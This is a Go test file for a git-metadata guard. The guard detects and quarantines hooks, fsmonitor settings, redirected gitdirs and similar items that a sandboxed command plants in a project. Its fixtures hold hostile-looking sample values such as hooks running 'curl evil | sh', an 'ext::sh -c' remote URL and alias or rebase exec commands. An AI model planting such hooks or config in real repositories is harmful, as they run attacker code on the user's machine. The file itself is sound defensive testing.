package gitguard

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// standard is a project with a repository as git init leaves it.
func standard(p *project) { p.gitdir(".git", inertConfig) }

// guardCases: the project before the session, what the sandboxed command
// planted, and the findings After must report (path relative to the
// project, then the start of What), in order.
var guardCases = []struct {
	name   string
	before func(p *project)
	plant  func(p *project)
	want   []string
	// nested are the nested repositories the planner's scan finds at
	// start (passed to Before).
	nested []string
}{
	{name: "nothing changed", before: standard, plant: func(p *project) {}},
	{name: "work in the tree is not metadata", before: standard, plant: func(p *project) {
		p.file("src/main.go", "package main\n", 0o644)
		p.file("config", "[core]\nfsmonitor = x\n", 0o644) // a project file named config
		p.exec("hooks/pre-commit", "#!/bin/sh\n")
	}},
	{name: "the user's own fsmonitor is left alone", before: func(p *project) {
		p.gitdir(".git", inertConfig+"\tfsmonitor = watchman-hook\n")
	}, plant: func(p *project) {}},
	{name: "commondir to a directory the command wrote", before: standard, plant: func(p *project) {
		p.gitdir("evil", fsmonitor)
		p.file(".git/commondir", "../evil\n", 0o644)
	}, want: []string{`.git/commondir: commondir "../evil"`, `evil/config: core.fsmonitor = "touch`}},
	{name: "nested repository (a gitlink) with fsmonitor", before: standard, plant: func(p *project) {
		p.gitdir("sub/.git", fsmonitor)
	}, want: []string{`sub/.git/config: core.fsmonitor = "touch`}},
	{name: "nested repository from before the session is left alone", nested: []string{"sub/.git"}, before: func(p *project) {
		standard(p)
		p.gitdir("sub/.git", fsmonitor)
		p.exec("sub/.git/hooks/pre-commit", "#!/bin/sh\n")
	}, plant: func(p *project) {}},
	{name: "the project's .git file rewritten", before: func(p *project) {
		p.file(".git", "gitdir: "+p.outside+"/main/.git/worktrees/proj\n", 0o644)
	}, plant: func(p *project) {
		p.file(".git", "gitdir: "+p.outside+"/evil\n", 0o644)
	}, want: []string{".git: gitdir: " + "<outside>/evil, outside the project"}},
	{name: "the project's .git file pointed at a directory inside", before: func(p *project) {
		p.file(".git", "gitdir: "+p.outside+"/main/.git/worktrees/proj\n", 0o644)
	}, plant: func(p *project) {
		p.gitdir(".cache/g", fsmonitor)
		p.file(".git", "gitdir: .cache/g\n", 0o644)
	}, want: []string{".git: gitdir: .cache/g, changed", ".cache/g/config: core.fsmonitor"}},
	{name: "a new .git file naming a directory outside", before: standard, plant: func(p *project) {
		p.file("lib/.git", "gitdir: /home/u/.local/share/stockade/home/x\n", 0o644)
	}, want: []string{"lib/.git: gitdir: /home/u/.local/share/stockade/home/x, outside the project"}},
	{name: "a submodule checkout made in the session", before: func(p *project) {
		standard(p)
		p.gitdir(".git/modules/lib", inertConfig+"\tworktree = ../../../lib\n")
	}, plant: func(p *project) {
		p.file("lib/.git", "gitdir: ../.git/modules/lib\n", 0o644)
		p.file("lib/README", "x\n", 0o644)
	}},
	{name: "modules/*/config", before: func(p *project) {
		standard(p)
		p.gitdir(".git/modules/lib", inertConfig)
	}, plant: func(p *project) {
		p.file(".git/modules/lib/config", inertConfig+"\tfsmonitor = x\n", 0o644)
	}, want: []string{`.git/modules/lib/config: core.fsmonitor = "x"`}},
	{name: "modules/*/hooks", before: func(p *project) {
		standard(p)
		p.gitdir(".git/modules/lib", inertConfig)
	}, plant: func(p *project) {
		p.exec(".git/modules/lib/hooks/post-checkout", "#!/bin/sh\n")
	}, want: []string{".git/modules/lib/hooks/post-checkout: an executable hook"}},
	{name: "a submodule whose name has a slash, nested modules", before: standard, plant: func(p *project) {
		p.gitdir(".git/modules/a/b", fsmonitor)
		p.gitdir(".git/modules/c/modules/d", fsmonitor)
	}, want: []string{".git/modules/a/b/config: core.fsmonitor", ".git/modules/c/modules/d/config: core.fsmonitor"}},
	{name: "worktrees/*/commondir", before: func(p *project) {
		standard(p)
		p.file(".git/worktrees/wt/HEAD", "ref: refs/heads/x\n", 0o644)
		p.file(".git/worktrees/wt/commondir", "../..\n", 0o644)
		p.file(".git/worktrees/wt/gitdir", p.outside+"/wt/.git\n", 0o644)
	}, plant: func(p *project) {
		p.gitdir("evil", fsmonitor)
		p.file(".git/worktrees/wt/commondir", "../../../evil\n", 0o644)
	}, want: []string{`.git/worktrees/wt/commondir: commondir "../../../evil"`, "evil/config: core.fsmonitor"}},
	{name: "a linked worktree made in the session", before: standard, plant: func(p *project) {
		p.file(".git/worktrees/wt2/HEAD", "ref: refs/heads/x\n", 0o644)
		p.file(".git/worktrees/wt2/commondir", "../..\n", 0o644)
		p.file(".git/worktrees/wt2/gitdir", p.dir+"/wt2/.git\n", 0o644)
		p.file("wt2/.git", "gitdir: "+p.dir+"/.git/worktrees/wt2\n", 0o644)
	}},
	{name: "worktrees/*/config.worktree", before: standard, plant: func(p *project) {
		p.file(".git/worktrees/wt/HEAD", "ref: refs/heads/x\n", 0o644)
		p.file(".git/worktrees/wt/commondir", "../..\n", 0o644)
		p.file(".git/worktrees/wt/config.worktree", fsmonitor, 0o644)
	}, want: []string{".git/worktrees/wt/config.worktree: core.fsmonitor"}},
	{name: "config.worktree", before: standard, plant: func(p *project) {
		p.file(".git/config.worktree", "[core]\n\thooksPath = /tmp/h\n", 0o644)
	}, want: []string{`.git/config.worktree: core.hookspath = "/tmp/h"`}},
	{name: "info/attributes naming a driver", before: standard, plant: func(p *project) {
		p.file(".git/info/attributes", "* filter=evil\n", 0o644)
	}, want: []string{".git/info/attributes: line 1: * filter=evil"}},
	{name: "hooks: executable ones only, not samples", before: standard, plant: func(p *project) {
		p.exec(".git/hooks/pre-commit", "#!/bin/sh\n")
		p.file(".git/hooks/notes.txt", "x\n", 0o644)
		p.exec(".git/hooks/post-merge.sample", "#!/bin/sh\n")
		p.link("/bin/sh", ".git/hooks/pre-push")
	}, want: []string{".git/hooks/pre-commit: an executable hook", ".git/hooks/pre-push: a hook that is a symlink to /bin/sh"}},
	{name: "a changed hook is put back", before: func(p *project) {
		standard(p)
		p.exec(".git/hooks/pre-commit", "#!/bin/sh\n# the user's\n")
	}, plant: func(p *project) {
		p.exec(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	}, want: []string{".git/hooks/pre-commit: an executable hook"}},
	{name: "a symlink named .git", before: standard, plant: func(p *project) {
		p.link(p.outside, "sub/.git")
	}, want: []string{"sub/.git: a symlink to " + "<outside>"}},
	{name: "a symlink in place of .git/info", before: standard, plant: func(p *project) {
		p.remove(".git/info")
		p.link("../evil", ".git/info")
	}, want: []string{".git/info: a symlink to ../evil"}},
	{name: "the user's symlinked hooks directory is followed", before: func(p *project) {
		standard(p)
		p.remove(".git/hooks")
		p.exec("githooks/pre-commit", "#!/bin/sh\n")
		p.link("../githooks", ".git/hooks")
	}, plant: func(p *project) {
		p.exec("githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	}, want: []string{"githooks/pre-commit: an executable hook"}},
	{name: "an included file", before: func(p *project) {
		p.gitdir(".git", inertConfig+"[include]\n\tpath = ../proj.gitconfig\n")
		p.file("proj.gitconfig", "[user]\n\tname = u\n", 0o644)
	}, plant: func(p *project) {
		p.file("proj.gitconfig", "[user]\n\tname = u\n[alias]\n\tst = !touch /tmp/x\n", 0o644)
	}, want: []string{`proj.gitconfig: alias.st = "!touch /tmp/x"`}},
	{name: "an included file that did not exist", before: func(p *project) {
		p.gitdir(".git", inertConfig+"[includeIf \"onbranch:main\"]\n\tpath = ../missing.gitconfig\n")
	}, plant: func(p *project) {
		p.file("missing.gitconfig", fsmonitor, 0o644)
	}, want: []string{"missing.gitconfig: core.fsmonitor"}},
	{name: "the core.hooksPath directory", before: func(p *project) {
		p.gitdir(".git", inertConfig+"\thooksPath = .githooks\n")
		p.exec(".githooks/pre-commit", "#!/bin/sh\n# lint\n")
	}, plant: func(p *project) {
		p.exec(".githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
		p.exec(".githooks/post-checkout", "#!/bin/sh\n")
	}, want: []string{".githooks/post-checkout: an executable hook", ".githooks/pre-commit: an executable hook"}},
	{name: "a bare repository in the work tree", before: standard, plant: func(p *project) {
		p.gitdir("tools/x.git", fsmonitor)
	}, want: []string{"tools/x.git/config: core.fsmonitor"}},
	{name: "git init in a project without git", before: func(p *project) {}, plant: func(p *project) {
		p.gitdir(".git", fsmonitor)
		p.exec(".git/hooks/pre-commit", "#!/bin/sh\n")
	}, want: []string{".git/config: core.fsmonitor", ".git/hooks/pre-commit: an executable hook"}},
	{name: "a config git cannot parse", before: standard, plant: func(p *project) {
		p.gitdir(".git/modules/lib", "[core]\n\tbare = false\n[bad\n")
	}, want: []string{".git/modules/lib/config: line 3 cannot be parsed"}},
	{name: "a rebase todo with exec", before: standard, plant: func(p *project) {
		p.file(".git/rebase-merge/git-rebase-todo", "pick abc x\nexec touch /tmp/m\n", 0o644)
	}, want: []string{".git/rebase-merge/git-rebase-todo: line 2: exec touch /tmp/m"}},
	{name: "a legacy remote with ext::", before: standard, plant: func(p *project) {
		p.file(".git/remotes/origin", "URL: ext::sh -c touch% /tmp/m\n", 0o644)
	}, want: []string{`.git/remotes/origin: URL "ext::sh -c touch% /tmp/m"`}},
	{name: "a FIFO in place of a config", before: standard, plant: func(p *project) {
		p.gitdir("sub/.git", inertConfig)
		p.remove("sub/.git/config")
		mkfifo(p.t, filepath.Join(p.dir, "sub/.git/config"))
	}, want: []string{"sub/.git/config: not a regular file"}},
	{name: "inert keys a submodule update writes", before: func(p *project) {
		standard(p)
		p.gitdir(".git/modules/lib", inertConfig)
	}, plant: func(p *project) {
		p.file(".git/modules/lib/config", inertConfig+"\tworktree = ../../../lib\n[remote \"origin\"]\n\turl = https://x/lib.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n", 0o644)
	}},
	{name: "only the new key of a changed config", before: func(p *project) {
		p.gitdir(".git", inertConfig+"\tfsmonitor = watchman-hook\n")
	}, plant: func(p *project) {
		p.file(".git/config", inertConfig+"\tfsmonitor = watchman-hook\n[alias]\n\tx = !y\n", 0o644)
	}, want: []string{`.git/config: alias.x = "!y"`}},
}

func TestBeforeAfter(t *testing.T) {
	for _, tc := range guardCases {
		t.Run(tc.name, func(t *testing.T) {
			p := newProject(t)
			tc.before(p)
			snapshot := dumpTree(t, p.dir)
			g, err := Before(p.dir, "s1", tc.nested...)
			must(t, err)
			tc.plant(p)
			outside := dumpTree(t, p.outside)
			found, err := g.After()
			must(t, err)
			if diff := dumpTree(t, p.outside); len(diff) != len(outside) {
				t.Errorf("After changed the directory outside the project")
			}
			got := summary(p, found)
			want := make([]string, len(tc.want))
			for i, w := range tc.want {
				want[i] = strings.ReplaceAll(w, "<outside>", p.outside)
			}
			if !matches(got, want) {
				t.Fatalf("findings:\n\t%s\nwant:\n\t%s", strings.Join(got, "\n\t"), strings.Join(want, "\n\t"))
			}
			for _, f := range found {
				checkQuarantined(t, p, f, snapshot)
			}
			// What was moved aside is not found again.
			if again, err := g.After(); err != nil || len(again) > 0 {
				t.Errorf("a second After found %q (%v)", summary(p, again), err)
			}
		})
	}
}

// checkQuarantined: the finding was moved aside, its line says where and
// how to undo it, and what is at its path now is what was there before.
func checkQuarantined(t *testing.T, p *project, f Finding, before map[string]string) {
	t.Helper()
	if f.Moved == "" || f.Err != nil {
		t.Errorf("%s: not moved (%v)", f, f.Err)
		return
	}
	if _, err := os.Lstat(f.Moved); err != nil {
		t.Errorf("%s: nothing at %s: %v", f, f.Moved, err)
	}
	if !strings.HasPrefix(f.String(), "QUARANTINED: "+f.Path+": ") || !strings.Contains(f.String(), "mv '"+f.Moved+"' '"+f.Path+"'") {
		t.Errorf("line %q does not say what was moved where", f)
	}
	// A file is put back; a directory or symlink is not (nothing is then).
	now, had := dumpTree(t, p.dir)[p.rel(f.Path)], before[p.rel(f.Path)]
	file := strings.HasPrefix(had, "-")
	if file && now != had || !file && now != "" {
		t.Errorf("%s: now %q, before the session %q", p.rel(f.Path), now, had)
	}
	if f.Restored != file {
		t.Errorf("%s: Restored is %v with %q before the session", p.rel(f.Path), f.Restored, had)
	}
}

// dumpTree describes every path below dir without following symlinks.
func dumpTree(t *testing.T, dir string) map[string]string {
	out := map[string]string{}
	err := filepath.Walk(dir, func(path string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, path)
		switch {
		case fi.Mode()&os.ModeSymlink != 0:
			l, _ := os.Readlink(path)
			out[rel] = "symlink " + l
		case fi.Mode().IsRegular():
			b, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			out[rel] = fi.Mode().String() + " " + string(b)
		case fi.IsDir():
			out[rel] = "dir"
		default:
			out[rel] = fi.Mode().String()
		}
		return nil
	})
	must(t, err)
	return out
}

// TestAllowHooks: with --allow-hooks the command may install hooks; the
// configuration is still checked.
func TestAllowHooks(t *testing.T) {
	p := newProject(t)
	standard(p)
	g, err := Before(p.dir, "s1")
	must(t, err)
	g.AllowHooks = true
	p.exec(".git/hooks/pre-commit", "#!/bin/sh\n")
	p.file(".git/config.worktree", fsmonitor, 0o644)
	found, err := g.After()
	must(t, err)
	if got := summary(p, found); !matches(got, []string{".git/config.worktree: core.fsmonitor"}) {
		t.Errorf("findings %q, want only the config", got)
	}
}

// TestQuarantineNameTaken: a name already taken (by an earlier session with
// the same id, or by the command) is not replaced.
func TestQuarantineNameTaken(t *testing.T) {
	p := newProject(t)
	standard(p)
	g, err := Before(p.dir, "s1")
	must(t, err)
	p.file(".git/config.worktree", fsmonitor, 0o644)
	p.file(".git/config.worktree.stockade-quarantine-s1", "planted\n", 0o644)
	found, err := g.After()
	must(t, err)
	if len(found) != 1 || !strings.HasSuffix(found[0].Moved, "config.worktree.stockade-quarantine-s1-2") {
		t.Fatalf("findings %q", lines(found))
	}
	if got := p.read(".git/config.worktree.stockade-quarantine-s1"); got != "planted\n" {
		t.Errorf("the earlier file now holds %q", got)
	}
}

// TestUnreadable: a directory the user cannot read is reported when it is
// the user's (the command may have made it so), and passed over when it is
// another user's.
func TestUnreadable(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("root reads every directory")
	}
	p := newProject(t)
	standard(p)
	g, err := Before(p.dir, "s1")
	must(t, err)
	p.gitdir("hidden/sub/.git", fsmonitor)
	must(t, os.Chmod(filepath.Join(p.dir, "hidden"), 0o111))
	t.Cleanup(func() { os.Chmod(filepath.Join(p.dir, "hidden"), 0o755) })
	found, err := g.After()
	must(t, err)
	if got := summary(p, found); !matches(got, []string{"hidden: could not be checked: permission denied"}) || found[0].Moved != "" ||
		!strings.HasPrefix(found[0].String(), "NOT CHECKED: ") {
		t.Errorf("findings %q", lines(found))
	}
}

// TestFence: a nested repository found only by After counts as the
// session's when its change time is after the fence.
// TestMovedIn: a nested repository that Before did not record is judged by
// its content, whatever the change times of its files: a directory renamed
// into place (a repository disguised in one session, named .git in the
// next) keeps the old ones.
func TestMovedIn(t *testing.T) {
	p := newProject(t)
	p.gitdir("sub/g", fsmonitor)
	old := time.Now().Add(-time.Hour)
	filepath.WalkDir(filepath.Join(p.dir, "sub/g"), func(q string, _ fs.DirEntry, _ error) error {
		return os.Chtimes(q, old, old)
	})
	g, err := Before(p.dir, "s1")
	must(t, err)
	must(t, os.Rename(filepath.Join(p.dir, "sub/g"), filepath.Join(p.dir, "sub/.git")))
	found, err := g.After()
	must(t, err)
	if len(found) == 0 || !strings.Contains(lines(found), "core.fsmonitor") {
		t.Errorf("findings %q, want the moved-in fsmonitor", lines(found))
	}
}

func TestBeforeMissingWorkdir(t *testing.T) {
	if _, err := Before(filepath.Join(t.TempDir(), "nope"), "s1"); err == nil {
		t.Error("Before of a missing workdir: no error")
	}
}
